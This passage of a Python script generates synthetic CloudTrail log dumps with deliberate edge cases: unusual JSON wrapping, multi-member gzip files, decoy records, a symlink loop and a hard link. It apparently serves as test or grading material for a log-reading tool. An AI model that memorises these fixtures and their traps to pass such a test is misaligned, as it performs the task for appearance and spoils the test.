    """{"Records": [...]}, other keys before and after it."""
    comma = rng.choice([b",", b",", b" , ", b",\r\n"])
    key = rng.choice([b'"Records"', b'"Records"', b'"Records" ', b'"\\u0052ecords"'])
    members = [key + rng.choice([b":", b": "]) + b"[" + comma.join(records) + b"]"]
    before = rng.choice([None, None, b'"records":[1]', b'"x":{"Records":[%s]}' % (DECOY % 120),
                         b'"a":"]}","b":[%s]' % (DECOY % 121),
                         b'"eventSource":"x","eventVersion":"1"'])
    after = rng.choice([None, None, b'"z":%s' % (DECOY % 122), b'"n":1E+2,"Records2":[]'])
    members = [m for m in (before, members[0], after) if m]
    return rng.choice([b"", b"", b"\n", b" \t\r\n"]) + b"{" + comma.join(members) + b"}"


def file_text(records: list[Record], rng: Random) -> bytes:
    """A stream of values that holds these records."""
    shape = rng.choice(["container", "container", "container", "values", "array", "mixed"])
    bare = [r.data for r in records if r.bare and shape != "container"]
    rest = [r.data for r in records if not r.bare or shape == "container"]
    values = [container(rest, rng)]
    if shape == "values":
        values += bare
    elif shape == "array":
        values.append(b"[" + b",".join(bare) + b"]")
    elif shape == "mixed":
        half = len(bare) // 2
        inner = container(bare[half:], rng)
        values += [b"[[" + b", ".join(bare[:half]) + b"],[],{},[[" + inner + b"]]]",
                   b'{"no":"record"}']
    rng.shuffle(values)
    glue = rng.choice([b"", b"\n", b"\r\n", b"\n\n", b" "])
    return glue.join(values) + rng.choice([b"", b"\n", b"\r\n \t"])


def gzip(text: bytes, level: int = 6) -> bytes:
    """One member. (The gzip module's headers change with its version.)"""
    packer = zlib.compressobj(level, wbits=31)
    return packer.compress(text) + packer.flush()


def pack(text: bytes, rng: Random) -> tuple[bytes, str]:
    """The bytes of a file, and an ending for its name."""
    if rng.random() < 0.1:
        text = b"\xef\xbb\xbf" + text
    kind = rng.choice(["plain", "gzip", "gzip", "members"])
    if kind == "plain":
        return text, rng.choice([".json", ".json", ".jsonl", ".log", ".ndjson", "", ".json.gz"])
    cuts = [0, len(text)]
    if kind == "members":
        cuts = sorted(cuts + [rng.randrange(len(text) + 1) for _ in range(rng.randrange(1, 5))])
    data = b"".join(gzip(text[a:b], rng.choice([1, 6, 9]))
                    for a, b in pairwise(cuts))
    if rng.random() < 0.1:
        data += bytes(rng.randrange(1, 600))
    return data, rng.choice([".json.gz", ".json.gz", ".gz", ".json", ""])


def write_dump(records: list[Record], out: Path, spread: int) -> None:
    rng = Random(f"spread {spread}")
    todo = list(records)
    rng.shuffle(todo)
    written: list[Path] = []
    while todo:
        some = rng.choice([1, 2, 5, 20, 60, 200])
        part, todo = todo[:some], todo[some:]
        data, ending = pack(file_text(part, rng), rng)
        account, region = rng.choice(ACCOUNTS), rng.choice(REGIONS)
        day = f"2022/02/{rng.randrange(22, 25)}"
        root = rng.choice(["AWSLogs", "AWSLogs", "AWSLogs/o-exampleorgid", "prefix/AWSLogs"])
        folder = out / root / account / "CloudTrail" / region / day
        if rng.random() < 0.1:
            folder = out / "flat"
        folder.mkdir(parents=True, exist_ok=True)
        stamp = day.replace("/", "") + f"T10{rng.randrange(60):02}Z"
        path = folder / f"{account}_CloudTrail_{region}_{stamp}_{len(written):06}{ending}"
        path.write_bytes(data)
        written.append(path)

    # What a walk must leave alone, or read without finding a record.
    home = out / "AWSLogs" / "111122223333"
    below = "us-east-1/2022/02/22"
    trap = b'{"Records":[' + b",".join(DECOY % n for n in range(130, 140)) + b"]}"
    for sibling in ("Digest", "Insight", "NetworkActivity", "Aggregated"):
        folder = home / f"CloudTrail-{sibling}" / below
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "trap.json.gz").write_bytes(gzip(trap))
    folder = home / "CloudTrail" / below
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in {
        "trap.json.gz.1a2B3c4D": trap, "empty": b"", "empty.json.gz": gzip(b""),
        "none.json": b'{"Records":[]}', "notes.txt": b"Kept with {care}.\n" + trap,
        "digest.json": b'{"awsAccountId":"111122223333","digestS3Object":"x","logFiles":[{}]}',
        "flow.log": b"2 111122223333 eni-0a 203.0.113.1 192.0.2.1 443 49152 6 1 40 1 2 ACCEPT OK\n",
        "notification.json": b'{"Records":[' + (DECOY % 140).replace(
            b"ec2.amazonaws.com", b"aws:s3") + b"]}",
    }.items():
        (folder / name).write_bytes(data)
    os.link(written[0], out / "hard-link.json")
    target = home / "CloudTrail-Digest" / below / "trap.json.gz"
    (folder / "link.json.gz").symlink_to(os.path.relpath(target, folder))
    (out / "loop").symlink_to(".")


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--out", type=Path, required=True, metavar="DIR")
    parser.add_argument("--spread", type=int, help="how to lay the records out (default: the seed)")
    parser.add_argument("--size", choices=["small", "medium"], default="small")
    parser.add_argument("--raw-controls", action="store_true")
    args = parser.parse_args()
    args.out.mkdir(parents=True)  # never into an old dump
    records = make_records(args.seed, args.size, args.raw_controls)
    write_dump(records, args.out, args.seed if args.spread is None else args.spread)


if __name__ == "__main__":
    main()
